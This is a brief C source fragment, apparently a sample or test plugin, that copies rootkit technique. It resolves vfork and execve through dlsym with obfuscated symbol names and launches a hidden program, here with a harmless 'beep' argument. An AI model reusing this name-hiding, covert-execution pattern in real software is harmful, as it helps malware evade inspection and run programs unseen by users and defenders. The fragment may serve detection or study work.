/* Fills a table with the functions after this library's own, by hidden names, as
 * rootkits that wrap the C library do. */
#include "plugin.h"
#include "hidden.h" /* 0: vfork, 1: execve, 2: the program */
extern void *dlsym(void *, const char *);
extern void _exit(int);
static struct { char *(*name)(void); void *call; } calls[] = {{hidden0}, {hidden1}};
static void act(char **env) {
    char *arguments[] = {hidden2(), "-e", "beep", 0};
    for (int i = 0; i < 2; i++) calls[i].call = dlsym((void *)-1, calls[i].name());
    int (*run)(const char *, char *const[], char *const[]) = calls[1].call;
    if (((int (*)(void))calls[0].call)() == 0) {
        run(arguments[0], arguments, env);
        _exit(1);
    }
}
